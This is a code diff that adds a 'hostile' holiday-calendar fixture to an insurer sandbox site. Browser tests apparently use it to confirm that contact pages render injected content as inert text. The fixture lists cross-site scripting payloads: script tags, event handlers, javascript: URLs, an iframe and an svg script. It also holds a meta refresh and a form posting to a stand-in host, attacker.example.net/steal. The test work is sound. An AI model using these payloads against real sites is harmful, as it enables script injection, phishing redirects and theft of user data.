@@ -93,6 +93,26 @@ export function holidayCalendarHtml(domainId: DomainId, today: string): string {
   return `<h3>Holiday schedule</h3><p>${escapeHtml(BRANDS[domainId].insurerName)} Customer Service is closed on these days:</p><ul>${items}</ul>`;
 }
 
+/** Which holiday calendar the sandbox serves: the real one, or one laced with attacks (sandbox only). */
+export type HolidayCalendarVariant = 'standard' | 'hostile';
+
+/**
+ * Sandbox only: what a compromised content service might store. Browser tests switch a session to it to
+ * prove the contact pages show text only: no script runs, no handler fires, nothing navigates. Each
+ * attack would set window.__calendarAttack (or leave the page) if it ever ran.
+ */
+export const HOSTILE_CALENDAR_HTML = [
+  '<script>window.__calendarAttack = "script"</script>',
+  '<p onmouseover="window.__calendarAttack = \'handler\'">Hover over this line.</p>',
+  '<img src="x-missing.png" onerror="window.__calendarAttack = \'onerror\'" alt="">',
+  '<a href="javascript:window.__calendarAttack = \'javascript-url\'" id="calendar-attack-link">Click for holiday hours</a>',
+  '<iframe src="javascript:parent.__calendarAttack = \'iframe\'"></iframe>',
+  '<meta http-equiv="refresh" content="0;url=https://attacker.example.net/">',
+  '<form action="https://attacker.example.net/steal"><button type="submit">Confirm</button></form>',
+  '<svg><script>window.__calendarAttack = "svg"</script></svg>',
+  '<style>body { display: none }</style>',
+].join('');
+
 /** The generic message calendar: the enrollment dates every member may need. */
 export function messageCalendarHtml(today: string): string {
   const year = SandboxDay.of(today).year;
